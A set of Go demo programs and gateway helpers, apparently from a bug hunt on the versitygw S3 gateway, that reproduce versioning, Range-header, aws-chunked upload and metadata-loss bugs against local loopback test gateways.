		fmt.Printf("VIOLATION C13: malformed Range headers with signed numbers must be ignored (200 + entire object) but are applied as ranges (206 partial body): %v\n", bad)
		return 1
	}
	fmt.Println("OK: Range headers with signed numbers are ignored")
	return 0
}

func errCode(err error) string {
	if err == nil {
		return "<nil>"
	}
	var ae s3err.APIError
	if errors.As(err, &ae) {
		return fmt.Sprintf("%s(%d)", ae.Code, ae.HTTPStatusCode)
	}
	return err.Error()
}

func verdict(ok bool) string {
	if ok {
		return "ok"
	}
	return "WRONG"
}
