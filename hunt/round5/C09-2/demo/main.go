//go:build huntdemo

// C09 finding 2: with the sidecar metadata store, a null version that is
// stored in the versioning directory inherits the attributes (delete-marker
// flag, tags, user metadata) of an EARLIER null version / null delete marker
// that was stored under the same path and has since been superseded.
//
// The history below is legal S3 versioning usage; every request succeeds.
// At the end the bytes "N2-precious" that were written as the null version
// must be retrievable with GET ?versionId=null, and ListObjectVersions must
// report "null" as a version (not as a delete marker).
package main

import (
	"fmt"
	"os"

	"github.com/aws/aws-sdk-go-v2/service/s3/types"
)

func run(sidecar bool) (violations []string) {
	g := startGW(gwOpts{sidecar: sidecar})
	defer g.stop()
	b, k := "bkt", "doc"
	g.mkBucket(b)

	// 1. Enabled: first version
	g.setVersioning(b, types.BucketVersioningStatusEnabled)
	v1 := g.put(b, k, "V1")
	// 2. Suspended: DELETE without id -> null delete marker (V1 is preserved)
	g.setVersioning(b, types.BucketVersioningStatusSuspended)
	d, err := g.del(b, k, "")
	must(err)
	if d.VersionId == nil || *d.VersionId != "null" || d.DeleteMarker == nil || !*d.DeleteMarker {
		must(fmt.Errorf("unexpected answer to DELETE on suspended bucket"))
	}
	// 3. Enabled: new version V2; the null delete marker moves to the
	//    versioning directory as <hash(key)>/null
	g.setVersioning(b, types.BucketVersioningStatusEnabled)
	v2 := g.put(b, k, "V2")
	// 4. Suspended: PUT -> a new null version supersedes the null delete
	//    marker (deleteNullVersionIdObject removes <hash(key)>/null)
	g.setVersioning(b, types.BucketVersioningStatusSuspended)
	if id := g.put(b, k, "N2-precious"); id != "null" && id != "" {
		must(fmt.Errorf("suspended put returned version id %q", id))
	}
	// 5. Enabled: PUT -> V3; the null version "N2-precious" moves to the
	//    versioning directory as <hash(key)>/null
	g.setVersioning(b, types.BucketVersioningStatusEnabled)
	v3 := g.put(b, k, "V3")

	// every version ever written and not deleted by id must be retrievable
	for _, w := range []struct{ id, data string }{{v1, "V1"}, {v2, "V2"}, {"null", "N2-precious"}, {v3, "V3"}} {
		body, _, err := g.get(b, k, w.id)
		if err != nil {
			violations = append(violations, fmt.Sprintf("GET %s?versionId=%s: %s (want %q)", k, w.id, apiCode(err), w.data))
		} else if body != w.data {
			violations = append(violations, fmt.Sprintf("GET %s?versionId=%s: body %q, want %q", k, w.id, body, w.data))
		}
	}
	l, err := g.listAll(b, 0)
	must(err)
	fmt.Printf("  ListObjectVersions: %v\n", l)
	for _, v := range l {
		if v.id == "null" && v.marker {
			violations = append(violations, "ListObjectVersions reports the null VERSION as a DeleteMarker")
		}
	}
	return violations
}

func main() {
	fmt.Println("xattr metadata store (reference):")
	vx := run(false)
	fmt.Printf("  violations: %v\n", vx)
	fmt.Println("sidecar metadata store:")
	vs := run(true)
	fmt.Printf("  violations: %v\n", vs)
	if len(vx)+len(vs) > 0 {
		fmt.Printf("VIOLATION C09: a version written and never deleted is not retrievable under its id: %v\n", append(vx, vs...))
		os.Exit(1)
	}
	fmt.Println("OK: all versions retrievable")
}
