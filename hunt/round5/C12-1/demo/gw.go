//go:build huntdemo

package main

// helpers: in-process gateways on loopback TCP, a raw SigV4 HTTP client and
// encoders for aws-chunked bodies

import (
	"bufio"
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"hash/crc32"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
)

const (
	access    = "rootaccess"
	secret    = "rootsecretrootsecret"
	region    = "us-east-1"
	emptySHA  = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
	crc32Name = "x-amz-checksum-crc32"
)

// startGateway serves the real s3api stack (same fiber settings as
// cmd/versitygw) for the backend on a loopback port
func startGateway(be backend.Backend) string {
	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		Network:               fiber.NetworkTCP,
		DisableStartupMessage: true,
	})
	root := middlewares.RootUserConfig{Access: access, Secret: secret}
	iam := auth.NewIAMServiceSingle(auth.Account{Access: access, Secret: secret, Role: auth.RoleAdmin})
	if _, err := s3api.New(app, be, root, ":0", region, iam, nil, nil, nil, nil, s3api.WithQuiet()); err != nil {
		panic(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	go app.Listener(ln)
	return ln.Addr().String()
}

type request struct {
	method, path string
	headers      map[string]string
	payloadHash  string // x-amz-content-sha256
	body         []byte
	bodyFn       func(seed string, date time.Time) []byte // body that depends on the request signature
	bodyLen      int
	timeout      time.Duration
}

// do signs (SigV4, header based) and sends one request over its own connection
func do(addr string, r request) (int, []byte, error) {
	date := time.Now().UTC()
	blen := len(r.body)
	if r.bodyFn != nil {
		blen = r.bodyLen
	}
	hr, err := http.NewRequest(r.method, "http://"+addr+r.path, nil)
	if err != nil {
		return 0, nil, err
	}
	for k, v := range r.headers {
		hr.Header.Set(k, v)
	}
	hr.Header.Set("X-Amz-Content-Sha256", r.payloadHash)
	hr.ContentLength = int64(blen)
	err = v4.NewSigner().SignHTTP(context.Background(),
		aws.Credentials{AccessKeyID: access, SecretAccessKey: secret},
		hr, r.payloadHash, "s3", region, date,
		func(o *v4.SignerOptions) { o.DisableURIPathEscaping = true })
	if err != nil {
		return 0, nil, err
	}
	az := hr.Header.Get("Authorization")
	seed := az[strings.LastIndex(az, "Signature=")+len("Signature="):]
	body := r.body
	if r.bodyFn != nil {
		body = r.bodyFn(seed, date)
	}
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return 0, nil, err
	}
	defer conn.Close()
	if r.timeout == 0 {
		r.timeout = 20 * time.Second
	}
	conn.SetDeadline(time.Now().Add(r.timeout))
	var b bytes.Buffer
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: %s\r\n", r.method, r.path, addr)
	for k, v := range hr.Header {
		fmt.Fprintf(&b, "%s: %s\r\n", k, v[0])
	}
	fmt.Fprintf(&b, "Content-Length: %d\r\n\r\n", blen)
	b.Write(body)
	if _, err := conn.Write(b.Bytes()); err != nil {
		return 0, nil, err
	}
	resp, err := http.ReadResponse(bufio.NewReader(conn), hr)
	if err != nil {
		return 0, nil, err
	}
	defer resp.Body.Close()
	rb, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, rb, nil
}

func hm(key, data []byte) []byte {
	h := hmac.New(sha256.New, key)
	h.Write(data)
	return h.Sum(nil)
}

func crc32b64(p []byte) string {
	h := crc32.NewIEEE()
	h.Write(p)
	return base64.StdEncoding.EncodeToString(h.Sum(nil))
}

// signedBody encodes payload as STREAMING-AWS4-HMAC-SHA256-PAYLOAD[-TRAILER]
// (https://docs.aws.amazon.com/AmazonS3/latest/API/sigv4-streaming.html);
// withTrailer appends the x-amz-checksum-crc32 trailer and its signature
func signedBody(seed string, date time.Time, payload []byte, sizes []int, withTrailer bool) []byte {
	k := hm([]byte("AWS4"+secret), []byte(date.Format("20060102")))
	k = hm(k, []byte(region))
	k = hm(k, []byte("s3"))
	key := hm(k, []byte("aws4_request"))
	scope := date.Format("20060102") + "/" + region + "/s3/aws4_request"
	ts := date.Format("20060102T150405Z")
	prev := seed
	var out []byte
	chunk := func(data []byte) {
		dh := sha256.Sum256(data)
		sts := fmt.Sprintf("AWS4-HMAC-SHA256-PAYLOAD\n%s\n%s\n%s\n%s\n%s", ts, scope, prev, emptySHA, hex.EncodeToString(dh[:]))
		prev = hex.EncodeToString(hm(key, []byte(sts)))
		out = append(out, fmt.Sprintf("%x;chunk-signature=%s\r\n", len(data), prev)...)
		if len(data) > 0 {
			out = append(out, data...)
			out = append(out, '\r', '\n')
		}
	}
	off := 0
	for _, s := range sizes {
		chunk(payload[off : off+s])
		off += s
	}
	chunk(nil)
	if withTrailer {
		cs := crc32b64(payload)
		th := sha256.Sum256([]byte(crc32Name + ":" + cs + "\n"))
		sts := fmt.Sprintf("AWS4-HMAC-SHA256-TRAILER\n%s\n%s\n%s\n%s", ts, scope, prev, hex.EncodeToString(th[:]))
		out = append(out, fmt.Sprintf("%s:%s\r\nx-amz-trailer-signature:%s\r\n", crc32Name, cs, hex.EncodeToString(hm(key, []byte(sts))))...)
	}
	return append(out, '\r', '\n')
}

func signedBodyLen(sizes []int, withTrailer bool) int {
	return len(signedBody(strings.Repeat("0", 64), time.Unix(0, 0).UTC(), make([]byte, sum(sizes)), sizes, withTrailer))
}

// unsignedBody encodes payload as STREAMING-UNSIGNED-PAYLOAD-TRAILER
func unsignedBody(payload []byte, sizes []int) []byte {
	var out []byte
	off := 0
	for _, s := range sizes {
		out = append(out, fmt.Sprintf("%x\r\n", s)...)
		out = append(out, payload[off:off+s]...)
		out = append(out, '\r', '\n')
		off += s
	}
	return append(out, fmt.Sprintf("0\r\n%s:%s\r\n\r\n", crc32Name, crc32b64(payload))...)
}

func sum(a []int) int {
	n := 0
	for _, v := range a {
		n += v
	}
	return n
}
