//go:build huntdemo

// C12 finding 1: a valid SIGNED aws-chunked upload sent through the s3proxy
// backend is never decoded: the handler spins forever in
// backend/s3proxy bodyErrReader.Read (it calls the signed chunk reader with
// a zero length buffer and loops on (0, nil)).
//
// gateway B (s3proxy backend) --> gateway A (posix backend on /dev/shm)
package main

import (
	"bytes"
	"fmt"
	"os"
	"strconv"
	"syscall"
	"time"

	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/backend/s3proxy"
)

func cpuTime() time.Duration {
	var ru syscall.Rusage
	syscall.Getrusage(syscall.RUSAGE_SELF, &ru)
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

func main() {
	os.Exit(run())
}

func run() int {
	dir, err := os.MkdirTemp("/dev/shm", "hunt-c12-1-")
	if err != nil {
		panic(err)
	}
	defer os.RemoveAll(dir)
	be, err := posix.New(dir, meta.XattrMeta{}, posix.PosixOpts{NewDirPerm: 0755})
	if err != nil {
		panic(err)
	}
	gwA := startGateway(be)

	// The endpoint is plain http: with the default setting the sdk refuses
	// every streamed (unseekable) upload before sending it ("unseekable
	// stream is not supported without TLS and trailing checksum"), so the
	// proxy is run with the documented setting for such endpoints.
	os.Setenv("AWS_REQUEST_CHECKSUM_CALCULATION", "when_required")
	px, err := s3proxy.New(access, secret, "http://"+gwA, region, false, false, false)
	if err != nil {
		panic(err)
	}
	gwB := startGateway(px)
	time.Sleep(100 * time.Millisecond)

	if st, b, err := do(gwA, request{method: "PUT", path: "/bkt", payloadHash: emptySHA}); err != nil || st != 200 {
		fmt.Println("setup: create bucket:", st, string(b), err)
		return 2
	}

	payload := []byte("0123456789abcdefghijklmnopqrstuvwxyz")
	sizes := []int{20, 16}
	get := func(key string) (int, []byte) {
		st, b, _ := do(gwA, request{method: "GET", path: "/bkt/" + key, payloadHash: emptySHA})
		return st, b
	}
	put := func(addr, key, kind string) (int, error, time.Duration) {
		hdr := map[string]string{}
		var r request
		switch kind {
		case "plain":
			r = request{payloadHash: "UNSIGNED-PAYLOAD", body: payload}
		case "unsigned-trailer":
			hdr["X-Amz-Trailer"] = crc32Name
			r = request{payloadHash: "STREAMING-UNSIGNED-PAYLOAD-TRAILER", body: unsignedBody(payload, sizes)}
		case "signed", "signed-trailer":
			tr := kind == "signed-trailer"
			ph := "STREAMING-AWS4-HMAC-SHA256-PAYLOAD"
			if tr {
				ph += "-TRAILER"
				hdr["X-Amz-Trailer"] = crc32Name
			}
			r = request{payloadHash: ph, bodyLen: signedBodyLen(sizes, tr),
				bodyFn: func(seed string, date time.Time) []byte { return signedBody(seed, date, payload, sizes, tr) }}
		}
		if kind != "plain" {
			hdr["Content-Encoding"] = "aws-chunked"
			hdr["X-Amz-Decoded-Content-Length"] = strconv.Itoa(len(payload))
		}
		r.method, r.path, r.headers, r.timeout = "PUT", "/bkt/"+key, hdr, 6*time.Second
		t0 := time.Now()
		st, _, err := do(addr, r)
		return st, err, time.Since(t0)
	}

	// controls: the same streams are fine on the posix gateway, and the
	// proxy gateway handles the other body kinds
	type ctl struct{ addr, name, key, kind string }
	for _, c := range []ctl{
		{gwA, "posix gateway", "a-signed", "signed"},
		{gwA, "posix gateway", "a-signed-trailer", "signed-trailer"},
		{gwB, "s3proxy gateway", "b-plain", "plain"},
		{gwB, "s3proxy gateway", "b-unsigned-trailer", "unsigned-trailer"},
	} {
		st, err, d := put(c.addr, c.key, c.kind)
		gst, gb := get(c.key)
		ok := err == nil && st == 200 && gst == 200 && bytes.Equal(gb, payload)
		fmt.Printf("control  %-16s PUT %-18s -> status=%d err=%v (%v), stored==payload: %v\n", c.name, c.kind, st, err, d.Round(time.Millisecond), ok)
		if !ok {
			fmt.Println("setup: control failed")
			return 2
		}
	}

	bad := 0
	for _, kind := range []string{"signed", "signed-trailer"} {
		key := "b-" + kind
		st, err, d := put(gwB, key, kind)
		gst, gb := get(key)
		ok := err == nil && st == 200 && gst == 200 && bytes.Equal(gb, payload)
		fmt.Printf("test     %-16s PUT %-18s -> status=%d err=%v (%v), GET=%d stored==payload: %v\n", "s3proxy gateway", kind, st, err, d.Round(time.Millisecond), gst, ok)
		if !ok {
			bad++
		}
	}
	if bad == 0 {
		fmt.Println("OK: valid signed aws-chunked uploads through the s3proxy backend are decoded and stored")
		return 0
	}
	// the clients have gone away; the handlers are still spinning
	c0 := cpuTime()
	time.Sleep(2 * time.Second)
	burn := cpuTime() - c0
	fmt.Printf("process cpu time used during 2s with no request in flight: %v\n", burn.Round(10*time.Millisecond))
	fmt.Printf("VIOLATION: %d valid signed aws-chunked PUT(s) through the s3proxy backend got no answer and stored nothing (handler spins forever in bodyErrReader.Read calling the chunk reader with an empty buffer); the same streams decode fine on the posix backend\n", bad)
	return 1
}
