//go:build huntdemo

// C01 finding 2: with named temp files (--disableotmp / PosixOpts.ForceNoTmpFile,
// the switch that exists "for cases where there are different filesystems
// mounted below the bucket level") an upload whose key lies on such a mounted
// file system is acknowledged with its ETag, but the stored object has none of
// the attributes that were set on the temp file: no ETag, no Content-Type, no
// user metadata, no content headers, no checksum.
package main

import (
	"bytes"
	"crypto/md5"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"syscall"
)

func main() { os.Exit(run()) }

// otherFS makes dir a place on another file system than its parent: a tmpfs
// mounted there, or (when mounting is not permitted) a symlink to a
// directory on the file system that holds the system temp dir.
func otherFS(dir string) (cleanup func(), how string, err error) {
	if err = os.MkdirAll(dir, 0755); err != nil {
		return nil, "", err
	}
	// HUNT_NO_MOUNT=1 forces the symlink variant
	if os.Getenv("HUNT_NO_MOUNT") != "" {
		err = syscall.EPERM
	} else {
		err = syscall.Mount("none", dir, "tmpfs", 0, "")
	}
	if err == nil {
		return func() { syscall.Unmount(dir, 0) }, "tmpfs mounted at " + dir, nil
	}
	target, err := os.MkdirTemp("", "hunt-c01-otherfs-")
	if err != nil {
		return nil, "", err
	}
	var a, b syscall.Stat_t
	if syscall.Stat(filepath.Dir(dir), &a) != nil || syscall.Stat(target, &b) != nil || a.Dev == b.Dev {
		os.RemoveAll(target)
		return nil, "", fmt.Errorf("cannot mount and %s is on the same file system", target)
	}
	os.Remove(dir)
	if err := os.Symlink(target, dir); err != nil {
		os.RemoveAll(target)
		return nil, "", err
	}
	return func() { os.RemoveAll(target) }, "symlink " + dir + " -> " + target, nil
}

func run() int {
	base := mkBase("f2")
	defer os.RemoveAll(base)
	g := startGW(base, cfg{noTmpFile: true}) // versitygw posix --disableotmp

	if r := g.do("PUT", "/bkt", nil, nil); r.status != 200 {
		fmt.Println("setup: create bucket:", r.status, string(r.body))
		return 2
	}
	cleanup, how, err := otherFS(filepath.Join(base, "root", "bkt", "vol"))
	if err != nil {
		fmt.Println("setup: cannot provide a second file system below the bucket:", err)
		return 2
	}
	defer cleanup()
	fmt.Println("second file system below the bucket:", how)

	body := []byte("hello world")
	sum := md5.Sum(body)
	wantETag := `"` + hex.EncodeToString(sum[:]) + `"`
	hdrs := map[string]string{
		"Content-Type":     "text/plain",
		"Cache-Control":    "no-cache",
		"Content-Encoding": "identity",
		"x-amz-meta-color": "blue",
	}

	bad := 0
	for _, key := range []string{"same-fs-obj", "vol/obj"} {
		pr := g.do("PUT", "/bkt/"+key, hdrs, body)
		fmt.Printf("PUT %-12s -> %d ETag=%s\n", key, pr.status, pr.hdr.Get("ETag"))
		if pr.status != 200 {
			// a refused upload is no violation of C01
			continue
		}
		gr := g.do("GET", "/bkt/"+key, map[string]string{"x-amz-checksum-mode": "ENABLED"}, nil)
		fmt.Printf("GET %-12s -> %d body=%q ETag=%q Content-Type=%q Cache-Control=%q Content-Encoding=%q x-amz-meta-color=%q x-amz-checksum-crc64nvme=%q\n",
			key, gr.status, gr.body, gr.hdr.Get("ETag"), gr.hdr.Get("Content-Type"), gr.hdr.Get("Cache-Control"),
			gr.hdr.Get("Content-Encoding"), gr.hdr.Get("x-amz-meta-color"), gr.hdr.Get("x-amz-checksum-crc64nvme"))
		if gr.status != 200 || !bytes.Equal(gr.body, body) || gr.hdr.Get("ETag") != wantETag ||
			gr.hdr.Get("Content-Type") != "text/plain" || gr.hdr.Get("Cache-Control") != "no-cache" ||
			gr.hdr.Get("Content-Encoding") != "identity" || gr.hdr.Get("x-amz-meta-color") != "blue" ||
			gr.hdr.Get("x-amz-checksum-crc64nvme") != pr.hdr.Get("x-amz-checksum-crc64nvme") {
			bad++
		}
	}
	lr := g.do("GET", "/bkt?list-type=2&prefix=vol/", nil, nil)
	fmt.Printf("ListObjectsV2 prefix=vol/ -> %s\n", regexp.MustCompile(`<Contents>.*</Contents>`).Find(lr.body))

	if bad > 0 {
		fmt.Printf("VIOLATION: PUT /bkt/vol/obj was acknowledged with ETag %s, but GET/HEAD/List of that key report no ETag, no checksum, the default Content-Type and none of the supplied headers and user metadata (the key on the bucket's own file system reads back intact)\n", wantETag)
		return 1
	}
	fmt.Println("ok: objects on the mounted file system read back with their attributes")
	return 0
}
