//go:build huntdemo

package main

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	v4 "github.com/aws/aws-sdk-go-v2/aws/signer/v4"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
)

// A real gateway in this process: posix backend on a scratch directory
// under /dev/shm, served by s3api.New on a loopback listener, driven by
// SigV4-signed HTTP requests (and, where useful, the AWS SDK client).

const (
	access = "root"
	secret = "rootsecret"
	region = "us-east-1"
)

type gw struct {
	url string
	app *fiber.App
	cl  *s3.Client
}

type cfg struct {
	sidecar    bool // meta.SideCar instead of xattrs
	versioning bool // versioning directory configured
	noTmpFile  bool // PosixOpts.ForceNoTmpFile (--disableotmp)
}

// layout: base/root (gateway root), base/sc (sidecar), base/ver (versions), base/iam
func mkBase(name string) string {
	base, err := os.MkdirTemp("/dev/shm", "hunt-c01-"+name+"-")
	if err != nil {
		panic(err)
	}
	for _, d := range []string{"root", "sc", "ver", "iam"} {
		if err := os.MkdirAll(filepath.Join(base, d), 0755); err != nil {
			panic(err)
		}
	}
	return base
}

func startGW(base string, c cfg) *gw {
	root := filepath.Join(base, "root")
	opts := posix.PosixOpts{NewDirPerm: 0755, ForceNoTmpFile: c.noTmpFile}
	var ms meta.MetadataStorer = meta.XattrMeta{}
	if c.sidecar {
		sc, err := meta.NewSideCar(filepath.Join(base, "sc"))
		if err != nil {
			panic(err)
		}
		ms = sc
		opts.SideCarDir = filepath.Join(base, "sc")
	}
	if c.versioning {
		opts.VersioningDir = filepath.Join(base, "ver")
	}
	be, err := posix.New(root, ms, opts)
	if err != nil {
		panic(err)
	}
	// same fiber configuration as cmd/versitygw
	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		Network:               fiber.NetworkTCP,
		DisableStartupMessage: true,
	})
	rootAcc := auth.Account{Access: access, Secret: secret, Role: auth.RoleAdmin}
	iam, err := auth.New(&auth.Opts{RootAccount: rootAcc, Dir: filepath.Join(base, "iam")})
	if err != nil {
		panic(err)
	}
	_, err = s3api.New(app, be, middlewares.RootUserConfig{Access: access, Secret: secret},
		":0", region, iam, nil, nil, nil, nil, s3api.WithQuiet())
	if err != nil {
		panic(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	go app.Listener(ln)
	g := &gw{url: "http://" + ln.Addr().String(), app: app}
	g.cl = s3.New(s3.Options{
		Region:       region,
		BaseEndpoint: aws.String(g.url),
		UsePathStyle: true,
		Credentials:  credentials.NewStaticCredentialsProvider(access, secret, ""),
		HTTPClient:   &http.Client{Transport: &http.Transport{DisableKeepAlives: true}},
	})
	time.Sleep(50 * time.Millisecond)
	return g
}

type resp struct {
	status int
	hdr    http.Header
	body   []byte
}

// do sends one SigV4-signed request. rawPathQuery goes on the wire as is.
func (g *gw) do(method, rawPathQuery string, hdr map[string]string, body []byte) resp {
	req, err := http.NewRequest(method, g.url+rawPathQuery, bytes.NewReader(body))
	if err != nil {
		panic(err)
	}
	sum := sha256.Sum256(body)
	ph := hex.EncodeToString(sum[:])
	for k, v := range hdr {
		if strings.EqualFold(k, "x-amz-content-sha256") {
			ph = v
		}
		req.Header.Set(k, v)
	}
	req.Header.Set("x-amz-content-sha256", ph)
	req.ContentLength = int64(len(body))
	signer := v4.NewSigner(func(o *v4.SignerOptions) { o.DisableURIPathEscaping = true })
	err = signer.SignHTTP(context.Background(), aws.Credentials{AccessKeyID: access, SecretAccessKey: secret},
		req, ph, "s3", region, time.Now())
	if err != nil {
		panic(err)
	}
	hc := &http.Client{Transport: &http.Transport{DisableKeepAlives: true, DisableCompression: true}}
	r, err := hc.Do(req)
	if err != nil {
		return resp{0, http.Header{}, []byte(err.Error())}
	}
	defer r.Body.Close()
	b, _ := io.ReadAll(r.Body)
	return resp{r.StatusCode, r.Header, b}
}
