//go:build huntdemo

package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/aws/aws-sdk-go-v2/service/s3/types"
	"github.com/aws/smithy-go"
	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
	"github.com/versity/versitygw/s3log"
)

const (
	rootAccess = "hunt"
	rootSecret = "huntsecret"
	region     = "us-east-1"
)

type gw struct {
	dir     string
	root    string
	vdir    string
	sidecar string
	cl      *s3.Client
	be      *posix.Posix
	app     *fiber.App
	addr    string
}

type gwOpts struct {
	sidecar   bool
	noTmpFile bool
}

func startGW(o gwOpts) *gw { return startGWWith("", nil, o) }

// startGWOn starts a gateway over dir (a new scratch directory if empty)
// with the given metadata store
func startGWOn(dir string, ms meta.MetadataStorer) *gw { return startGWWith(dir, ms, gwOpts{}) }

func startGWWith(dir string, custom meta.MetadataStorer, o gwOpts) *gw {
	var err error
	if dir == "" {
		dir, err = os.MkdirTemp("/dev/shm", "c09hunt-")
		must(err)
	}
	g := &gw{dir: dir, root: filepath.Join(dir, "root"), vdir: filepath.Join(dir, "versions"), sidecar: filepath.Join(dir, "sidecar")}
	must(os.MkdirAll(g.root, 0o755))
	must(os.MkdirAll(g.vdir, 0o755))
	var ms meta.MetadataStorer = meta.XattrMeta{}
	popts := posix.PosixOpts{VersioningDir: g.vdir, NewDirPerm: 0o755, ForceNoTmpFile: o.noTmpFile}
	if o.sidecar {
		must(os.MkdirAll(g.sidecar, 0o755))
		sc, err := meta.NewSideCar(g.sidecar)
		must(err)
		ms = sc
		popts.SideCarDir = g.sidecar
	}
	if custom != nil {
		ms = custom
	}
	be, err := posix.New(g.root, ms, popts)
	must(err)
	g.be = be

	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		Network:               fiber.NetworkTCP,
		DisableStartupMessage: true,
	})
	g.app = app
	rootAcct := auth.Account{Access: rootAccess, Secret: rootSecret, Role: auth.RoleAdmin}
	iam := auth.NewIAMServiceSingle(rootAcct)
	loggers, err := s3log.InitLogger(&s3log.LogConfig{})
	must(err)
	_, err = s3api.New(app, be, middlewares.RootUserConfig{Access: rootAccess, Secret: rootSecret},
		":0", region, iam, loggers.S3Logger, loggers.AdminLogger, nil, nil, s3api.WithQuiet())
	must(err)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	must(err)
	g.addr = "http://" + ln.Addr().String()
	go func() { _ = app.Listener(ln) }()
	time.Sleep(100 * time.Millisecond)

	cfg := aws.Config{
		Region:      region,
		Credentials: credentials.NewStaticCredentialsProvider(rootAccess, rootSecret, ""),
	}
	g.cl = s3.NewFromConfig(cfg, func(o *s3.Options) {
		o.BaseEndpoint = aws.String(g.addr)
		o.UsePathStyle = true
		o.RetryMaxAttempts = 1
	})
	return g
}

func (g *gw) stop() {
	_ = g.app.Shutdown()
	_ = os.RemoveAll(g.dir)
}

func must(err error) {
	if err != nil {
		fmt.Println("SETUP ERROR:", err)
		os.Exit(2)
	}
}

var bg = context.Background()

func (g *gw) mkBucket(b string) {
	_, err := g.cl.CreateBucket(bg, &s3.CreateBucketInput{Bucket: &b})
	must(err)
}

func (g *gw) setVersioning(b string, st types.BucketVersioningStatus) {
	_, err := g.cl.PutBucketVersioning(bg, &s3.PutBucketVersioningInput{Bucket: &b,
		VersioningConfiguration: &types.VersioningConfiguration{Status: st}})
	must(err)
}

func (g *gw) put(b, k, body string) string {
	out, err := g.cl.PutObject(bg, &s3.PutObjectInput{Bucket: &b, Key: &k, Body: bytes.NewReader([]byte(body))})
	must(err)
	return aws.ToString(out.VersionId)
}

func (g *gw) get(b, k, vid string) (string, *s3.GetObjectOutput, error) {
	in := &s3.GetObjectInput{Bucket: &b, Key: &k}
	if vid != "" {
		in.VersionId = &vid
	}
	out, err := g.cl.GetObject(bg, in)
	if err != nil {
		return "", nil, err
	}
	defer out.Body.Close()
	data, err := io.ReadAll(out.Body)
	return string(data), out, err
}

func (g *gw) del(b, k, vid string) (*s3.DeleteObjectOutput, error) {
	in := &s3.DeleteObjectInput{Bucket: &b, Key: &k}
	if vid != "" {
		in.VersionId = &vid
	}
	return g.cl.DeleteObject(bg, in)
}

type ver struct {
	key, id string
	latest  bool
	marker  bool
	size    int64
	etag    string
	mod     time.Time
}

func (v ver) String() string {
	t := "V"
	if v.marker {
		t = "D"
	}
	l := ""
	if v.latest {
		l = "*"
	}
	return fmt.Sprintf("%s:%s:%s%s", v.key, t, v.id, l)
}

// listAll pages through ListObjectVersions; the order of the result is the
// document order of each page (the SDK splits versions and markers, so the
// per-key relative order between the two kinds is lost; use raw listing when
// that matters)
func (g *gw) listAll(b string, max int32) ([]ver, error) {
	var res []ver
	var km, vm *string
	for i := 0; i < 1000; i++ {
		in := &s3.ListObjectVersionsInput{Bucket: &b, KeyMarker: km, VersionIdMarker: vm}
		if max > 0 {
			in.MaxKeys = &max
		}
		out, err := g.cl.ListObjectVersions(bg, in)
		if err != nil {
			return res, err
		}
		for _, v := range out.Versions {
			res = append(res, ver{key: *v.Key, id: aws.ToString(v.VersionId), latest: aws.ToBool(v.IsLatest), size: aws.ToInt64(v.Size), etag: aws.ToString(v.ETag), mod: aws.ToTime(v.LastModified)})
		}
		for _, v := range out.DeleteMarkers {
			res = append(res, ver{key: *v.Key, id: aws.ToString(v.VersionId), latest: aws.ToBool(v.IsLatest), marker: true, mod: aws.ToTime(v.LastModified)})
		}
		if !aws.ToBool(out.IsTruncated) {
			return res, nil
		}
		km, vm = out.NextKeyMarker, out.NextVersionIdMarker
	}
	return res, fmt.Errorf("listing did not terminate")
}

func (g *gw) listOpt(b, prefix, delim string, max int32) ([]ver, []string, error) {
	var res []ver
	var cps []string
	var km, vm *string
	for i := 0; i < 1000; i++ {
		in := &s3.ListObjectVersionsInput{Bucket: &b, KeyMarker: km, VersionIdMarker: vm}
		if prefix != "" {
			in.Prefix = &prefix
		}
		if delim != "" {
			in.Delimiter = &delim
		}
		if max > 0 {
			in.MaxKeys = &max
		}
		out, err := g.cl.ListObjectVersions(bg, in)
		if err != nil {
			return res, cps, err
		}
		n := len(out.Versions) + len(out.DeleteMarkers) + len(out.CommonPrefixes)
		if max > 0 && n > int(max)+1 {
